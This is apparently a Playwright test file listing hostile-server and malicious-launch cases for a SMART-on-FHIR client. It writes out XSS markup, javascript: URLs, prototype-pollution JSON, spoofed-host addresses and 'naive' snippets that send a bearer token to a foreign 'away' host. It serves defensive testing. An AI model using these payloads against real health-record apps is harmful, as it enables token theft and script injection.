/** Answers of servers and addresses of launches that a client may not follow: how each is brought about. */
import type { Page } from '@playwright/test';
import type { SessionOptions } from '../../../sandbox/session.ts';

export interface Scene {
  readonly page: Page;
  readonly appUrl: string;
  readonly iss: string;
  readonly launchUrl: string;
  /** Where nobody may go, with the case's id. */
  readonly away: string;
}

export interface AnswerCase {
  readonly id: string;
  readonly class: 'next' | 'redirect' | 'outcome' | 'discovery' | 'launch' | 'hash' | 'config';
  readonly title: string;
  readonly session?: Partial<SessionOptions>;
  /** Makes the answer and returns the address to open. */
  readonly arrange: (scene: Scene) => Promise<string>;
  /** Said on the page. */
  readonly says: RegExp;
  /** Opens the first document when the chart is there. */
  readonly opens?: boolean;
  /**
   * What a naive client does with it, run in the control's page with the away and base addresses, and the harm that
   * this does, or why the browser lets nothing happen.
   */
  readonly control: { readonly naive: string } & (
    | { readonly harm: 'told' | 'request' | 'script' | 'burden' | 'clobber' }
    | { readonly immune: string }
  );
}

type Json = Record<string, unknown>;

/** Answers the search with another `next`. */
const next = (make: (scene: Scene) => string) => async (scene: Scene): Promise<string> => {
  await scene.page.route(/\/DocumentReference\?/, async (route) => {
    const response = await route.fetch();
    const bundle = (await response.json()) as Json;
    await route.fulfill({ response, json: { ...bundle, link: [{ relation: 'next', url: make(scene) }] } });
  });
  return scene.launchUrl;
}; // prettier-ignore

const cors = { 'Access-Control-Allow-Origin': '*' };

/** Answers the request for the document's bytes. */
const binary = (make: (scene: Scene) => { status: number; body?: string; contentType?: string; location?: string }) => async (scene: Scene): Promise<string> => {
  await scene.page.route(/\/Binary\/F-plain/, (route) => {
    if (route.request().method() === 'OPTIONS') return route.continue();
    const { location, ...answer } = make(scene);
    return route.fulfill({ ...answer, headers: { ...cors, ...(location !== undefined && { Location: location }) } });
  });
  return scene.launchUrl;
}; // prettier-ignore

const discovery = (make: (scene: Scene) => Json) => async (scene: Scene): Promise<string> => {
  await scene.page.route('**/.well-known/smart-configuration', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...((await response.json()) as Json), ...make(scene) } });
  });
  return scene.launchUrl;
}; // prettier-ignore

const config = (change: (json: Json) => unknown) => async (scene: Scene): Promise<string> => {
  await scene.page.route('**/config.json', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: change((await response.json()) as Json) });
  });
  return scene.appUrl;
}; // prettier-ignore

const query = (make: (scene: Scene) => Record<string, string>) => (scene: Scene): Promise<string> =>
  Promise.resolve(`${scene.appUrl}?${new URLSearchParams(make(scene)).toString()}`); // prettier-ignore

const follow = (address: string): string => `await fetch(${address}, { headers: { Authorization: 'Bearer secret' } })`; // prettier-ignore
const pages = `let next = ADDRESS; for (let page = 0; next !== undefined; page += 1) { if (page > 30) { pages = page; break; } await fetch(next, { headers: { Authorization: 'Bearer secret' } }); if (ADDRESS !== LOOP) next = undefined; }`;
const pageThrough = (address: string, loop = "''"): string => pages.replaceAll('ADDRESS', address).replaceAll('LOOP', loop); // prettier-ignore
const discover = (address: string): string => `await fetch(${address} + '/.well-known/smart-configuration', { mode: 'no-cors' })`; // prettier-ignore
const mark = '<img src=x onerror="{{pwn}}">';
const strange =
  '{"version":"1","issuers":{"length":1},"__proto__":{"demo":true},"constructor":1,"locale":{},"texts":[]}';

export const answerCases: readonly AnswerCase[] = [
  { id: 'fhir-next-foreign', class: 'next', title: 'a next page of another server', arrange: next(({ away }) => `${away}/DocumentReference?page=2`), says: /outside the servers/, control: { harm: 'told', naive: pageThrough('away') } },
  { id: 'fhir-next-climbs', class: 'next', title: 'a next page outside of the base', arrange: next(({ iss }) => `${iss}/../../admin?page=2`), says: /outside the servers/, control: { harm: 'told', naive: pageThrough("base + '/../../admin'") } },
  { id: 'fhir-next-tenant', class: 'next', title: 'a next page of a tenant whose name begins like ours', arrange: next(({ iss }) => `${iss}-evil/DocumentReference?page=2`), says: /outside the servers/, control: { harm: 'told', naive: pageThrough("base + '-evil/x'") } },
  { id: 'fhir-next-loop', class: 'next', title: 'a next page that is this page', arrange: async (scene) => { let first = ''; await scene.page.route(/\/DocumentReference\?/, async (route) => { first ||= route.request().url(); const response = await route.fetch(); await route.fulfill({ response, json: { ...((await response.json()) as Json), link: [{ relation: 'next', url: first }] } }); }); return scene.launchUrl; }, says: /leads back to itself/, control: { harm: 'burden', naive: pageThrough("base + '/x'", "base + '/x'") } },
  { id: 'fhir-next-code', class: 'next', title: 'a next page that is code', arrange: next(() => 'javascript:{{pwn}}'), says: /outside the servers|list is incomplete/, control: { naive: pageThrough("'javascript:' + pwn"), immune: 'fetch asks no address of this kind.' } },
  { id: 'fhir-redirect-foreign', class: 'redirect', title: 'a document that is sent on to another server', arrange: binary(({ away }) => ({ status: 302, location: `${away}/r.html` })), opens: true, says: /sent the request on to another address/, control: { harm: 'request', naive: "await fetch(base + '/x?to=' + encodeURIComponent(away), { headers: { Authorization: 'Bearer secret' } })" } },
  { id: 'fhir-redirect-own', class: 'redirect', title: 'a document that is sent on to another place of the same server', arrange: binary(({ iss }) => ({ status: 307, location: `${new URL(iss).origin}/admin` })), opens: true, says: /sent the request on to another address/, control: { harm: 'told', naive: follow("base + '/x?to=' + encodeURIComponent('/fhir/' + id + '/admin')") } },
  { id: 'fhir-redirect-code', class: 'redirect', title: 'a document that is sent on to code', arrange: binary(() => ({ status: 303, location: 'javascript:console.log(1)' })), opens: true, says: /sent the request on|could not be reached/, control: { naive: "await fetch(base + '/x?to=' + encodeURIComponent('javascript:' + pwn))", immune: 'A browser follows no redirect to an address of this kind.' } },
  { id: 'fhir-outcome-markup', class: 'outcome', title: 'an outcome whose words are markup', arrange: binary(() => ({ status: 500, contentType: 'application/fhir+json', body: JSON.stringify({ resourceType: 'OperationOutcome', issue: [{ severity: 'error', code: 'exception', details: { text: mark }, diagnostics: mark }] }) })), opens: true, says: /had an error of its own/, control: { harm: 'script', naive: "document.querySelector('#report').innerHTML = mark" } },
  { id: 'fhir-outcome-html', class: 'outcome', title: 'an error that is a page', arrange: binary(() => ({ status: 404, contentType: 'text/html', body: `<html><body>${mark}Gone for good</body></html>` })), opens: true, says: /does not have this document/, control: { harm: 'script', naive: "document.querySelector('#report').innerHTML = mark" } },
  { id: 'fhir-outcome-long', class: 'outcome', title: 'an outcome of a megabyte that turns the line round', arrange: binary(() => ({ status: 403, contentType: 'application/fhir+json', body: JSON.stringify({ resourceType: 'OperationOutcome', issue: [{ severity: 'error', code: 'x', details: { text: `\u202E${'x'.repeat(1_000_000)}` } }] }) })), opens: true, says: /does not allow this/, control: { naive: "document.querySelector('#report').textContent = '\\u202E' + 'x'.repeat(1e6)", immune: 'A page shows so long a text; what is asserted is that our words around it stay.' } },
  { id: 'fhir-discovery-authorize', class: 'discovery', title: 'a sign-in on another server', arrange: discovery(({ away }) => ({ authorization_endpoint: `${away}/a.html` })), says: /wants sign-in to go to/, control: { harm: 'request', naive: 'await fetch(away + "/a.html", { mode: "no-cors" })' } },
  { id: 'fhir-discovery-token', class: 'discovery', title: 'a token endpoint on another server', arrange: discovery(({ away }) => ({ token_endpoint: `${away}/t` })), says: /wants sign-in to go to/, control: { harm: 'request', naive: 'await fetch(away + "/t", { method: "POST", mode: "no-cors", body: "code=secret" })' } },
  { id: 'fhir-discovery-code', class: 'discovery', title: 'a sign-in that is code', arrange: discovery(() => ({ authorization_endpoint: 'javascript:console.log(/pwned-fhir-discovery-code-/)' })), says: /did not say how to sign in|wants sign-in to go to/, control: { harm: 'script', naive: 'location.href = "javascript:" + pwn' } },
  { id: 'fhir-discovery-userinfo', class: 'discovery', title: 'a sign-in whose user is the real server', arrange: discovery(({ iss, away }) => ({ authorization_endpoint: away.replace('://', `://${new URL(iss).hostname}@`) })), says: /did not say how to sign in|wants sign-in to go to/, control: { harm: 'request', naive: 'await fetch(away, { mode: "no-cors" })' } },
  { id: 'fhir-launch-iss', class: 'launch', title: 'a launch by another server', arrange: query(({ away }) => ({ iss: away, launch: 'x' })), says: /not set up for the record system/, control: { harm: 'request', naive: discover('away') } },
  { id: 'fhir-launch-iss-userinfo', class: 'launch', title: 'a launch whose server is named as a user', arrange: query(({ iss, away }) => ({ iss: away.replace('://', `://${new URL(iss).hostname}@`), launch: 'x' })), says: /not set up for the record system/, control: { harm: 'request', naive: discover('away') } },
  { id: 'fhir-launch-iss-fragment', class: 'launch', title: 'a launch with a fragment behind the server', arrange: query(({ iss, away }) => ({ iss: `${away}#${iss}`, launch: 'x' })), says: /not set up for the record system/, control: { harm: 'request', naive: discover('away') } },
  { id: 'fhir-launch-iss-code', class: 'launch', title: 'a launch by code', arrange: query(() => ({ iss: 'javascript:console.log(/pwned-fhir-launch-iss-code-/)' })), says: /not set up for the record system/, control: { harm: 'script', naive: 'location.href = "javascript:" + pwn' } },
  { id: 'fhir-launch-service', class: 'launch', title: 'fhirclient’s own parameters', arrange: query(({ away }) => ({ fhirServiceUrl: away, patientId: 'victim', clientId: 'evil' })), says: /Sign in to/, control: { harm: 'request', naive: discover('away') } },
  { id: 'fhir-launch-twice-iss', class: 'launch', title: 'two servers', arrange: ({ launchUrl, away }) => Promise.resolve(`${launchUrl}&iss=${encodeURIComponent(away)}`), says: /names “iss” more than once/, control: { harm: 'request', naive: discover('away') } },
  { id: 'fhir-launch-twice-state', class: 'launch', title: 'two states and codes', arrange: ({ appUrl }) => Promise.resolve(`${appUrl}?state=a&code=b&state=${'0'.repeat(32)}`), says: /names “state” more than once/, control: { naive: "history.replaceState(null, '', '?state=a&code=b&state=c'); new URLSearchParams(location.search).get('state')", immune: 'Which of two is meant is a question between servers; a page alone does nothing.' } },
  { id: 'fhir-hash-foreign', class: 'hash', title: 'a handle of nobody', arrange: ({ launchUrl }) => Promise.resolve(`${launchUrl}#0123456789ab`), says: /Case plain/, control: { naive: "location.hash = '0123456789ab'; found = document.querySelector(':target') !== null", immune: 'A handle that names nothing names nothing.' } },
  { id: 'fhir-hash-climbs', class: 'hash', title: 'a handle that climbs', arrange: ({ launchUrl }) => Promise.resolve(`${launchUrl}#../../admin`), says: /Case plain/, control: { harm: 'told', naive: follow("base + '/' + '../../admin'") } },
  { id: 'fhir-hash-proto', class: 'hash', title: 'a handle that every object has', arrange: ({ launchUrl }) => Promise.resolve(`${launchUrl}#__proto__`), says: /Case plain/, control: { harm: 'clobber', naive: "found = ({})['__proto__'] !== undefined" } },
  { id: 'fhir-config-name', class: 'config', title: 'a server whose name is markup', arrange: config((json) => ({ ...json, issuers: (json['issuers'] as Json[]).map((one) => ({ ...one, name: mark })) })), says: /Sign in to <img src=x/, control: { harm: 'script', naive: "document.querySelector('#report').innerHTML = mark" } },
  { id: 'fhir-config-code', class: 'config', title: 'a server that is code', arrange: config((json) => ({ ...json, issuers: [{ name: 'x', clientId: 'y', iss: 'javascript:console.log(1)' }] })), says: /issuers\[0\]\.iss/, control: { harm: 'script', naive: 'location.href = "javascript:" + pwn' } },
  { id: 'fhir-config-types', class: 'config', title: 'values of other types, and keys that every object has', arrange: config(() => JSON.parse(strange) as unknown), says: /config\.json\) has/, control: { naive: `found = Object.assign({}, JSON.parse('${strange}')).issuers.length > 1 || ({}).demo === true`, immune: 'A page that reads them wrong shows nothing.' } },
]; // prettier-ignore
